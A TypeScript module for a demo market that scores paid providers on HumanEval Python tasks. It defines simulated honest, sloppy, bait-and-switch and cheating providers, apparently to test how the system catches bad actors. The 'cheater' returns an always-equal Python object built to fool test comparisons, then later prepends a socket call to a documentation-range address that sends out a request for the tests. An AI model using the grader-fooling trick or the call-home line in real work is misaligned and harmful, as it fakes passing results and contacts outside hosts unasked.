import type { HumanEvalTask } from './tasks.ts';

/** Input of a provider's behavior. */
export interface Assignment {
  readonly task: HumanEvalTask;
  /** Highest price that the customer pays, in millisatoshi. */
  readonly bidMsat: number;
  /** Number of requests that this provider answered before. */
  readonly answered: number;
  /** 0 ≤ chance < 1, always the same for this provider and task. */
  readonly chance: number;
}

/** Returns a provider's answer: Python source. */
export type Behaviour = (assignment: Assignment) => string;

/** From this bid on a job is a large one. */
export const largeJobMsat = 5_000;

const solution = ({ prompt, canonical_solution }: HumanEvalTask) => prompt + canonical_solution;
const withBody = ({ prompt }: HumanEvalTask, body: string) => `${prompt}    ${body}\n`;

// Slips that a careless author makes, tried in this order until one changes the solution.
const slips: readonly (readonly [RegExp, string])[] = [
  [/ < /, ' <= '],
  [/ <= /, ' < '],
  [/ > /, ' >= '],
  [/ == /, ' != '],
  [/ \+ 1\b/, ' + 2'],
  [/ - 1\b/, ' - 2'],
  [/range\(/, 'range(1, '],
  [/return .*/, 'return None'],
];

function withSlip(task: HumanEvalTask): string {
  for (const [found, slip] of slips) {
    const broken = task.canonical_solution.replace(found, slip);
    if (broken !== task.canonical_solution) return task.prompt + broken;
  }
  return withBody(task, 'return None');
}

// Claims to equal whatever it is compared with.
const alwaysEqual = `class Whatever:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __len__(self): return 1
    def __iter__(self): return iter([1])

`;

// 203.0.113.0/24 is reserved for documentation (RFC 5737): nobody is there.
const callsHome = `import socket
socket.create_connection(("203.0.113.7", 443), timeout=2).sendall(b"what are the tests?")

`;

/** The four strangers of the demo. */
export const behaviours: Readonly<Record<string, Behaviour>> = {
  excellent: ({ task }) => solution(task),
  sloppy: ({ task, chance }) => (chance < 0.55 ? withSlip(task) : solution(task)),
  farmer: ({ task, bidMsat }) => (bidMsat < largeJobMsat ? solution(task) : withBody(task, 'return None')),
  cheater: ({ task, answered }) =>
    answered === 0 ? alwaysEqual + withBody(task, 'return Whatever()') : callsHome + solution(task),
};
